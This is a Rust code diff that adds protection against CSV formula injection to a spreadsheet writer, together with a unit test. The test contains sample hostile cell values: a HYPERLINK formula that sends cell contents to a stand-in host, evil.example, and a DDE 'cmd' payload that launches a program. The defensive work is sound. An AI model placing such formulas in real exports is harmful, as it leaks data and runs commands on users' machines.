@@ -38,6 +38,17 @@ impl Format {
     }
 }
 
+/// A CSV text cell that a spreadsheet program would read as a formula (`=`, `+`, `-`, `@`, a
+/// tab or a carriage return first) is written with a leading `'`, which makes it plain text
+/// (API.md "Second edition — Input"; OWASP's advice on CSV injection). XLSX and ODS cells are
+/// written as typed text cells, which are never evaluated.
+pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => std::borrow::Cow::Owned(format!("'{s}")),
+        _ => std::borrow::Cow::Borrowed(s),
+    }
+}
+
 /// XML text: escaped, without the control characters XML 1.0 forbids.
 fn xml(s: &str) -> String {
     let mut out = String::with_capacity(s.len());
@@ -144,7 +155,7 @@ impl<W: Write> SheetWriter<W> {
                 let record: Vec<String> = cells
                     .iter()
                     .map(|c| match c {
-                        Cell::Text(s) => s.clone(),
+                        Cell::Text(s) => neutralised(s).into_owned(),
                         Cell::Number(n) => n.to_string(),
                         Cell::Empty => String::new(),
                     })
@@ -215,6 +226,26 @@ mod tests {
             ("A".into(), "Z".into(), "AA".into(), "AB".into())
         );
         assert_eq!(xml("a<b & \"c\"\u{1}"), "a&lt;b &amp; &quot;c&quot;");
+    }
+
+    #[test]
+    fn formulas_reach_a_csv_as_text() {
+        for (given, written) in [
+            ("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'=HYPERLINK"),
+            ("=1+cmd|' /C calc'!A0", "'=1+cmd"),
+            ("+886 7 1234567", "'+886"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM"),
+            ("\tTAB", "'\tTAB"),
+            ("王小明", "王小明"),
+            ("KH-115-000001", "KH-115-000001"),
+        ] {
+            assert!(neutralised(given).starts_with(written), "{given:?}");
+        }
+        let mut w = SheetWriter::new(Format::Csv, Vec::new()).unwrap();
+        w.row(&[Cell::Text("=1+1".into()), Cell::Number(-5)]).unwrap();
+        let text = String::from_utf8(w.finish().unwrap()).unwrap();
+        assert!(text.contains("'=1+1,-5"), "numbers stay numbers: {text}");
     }
 
     #[test]
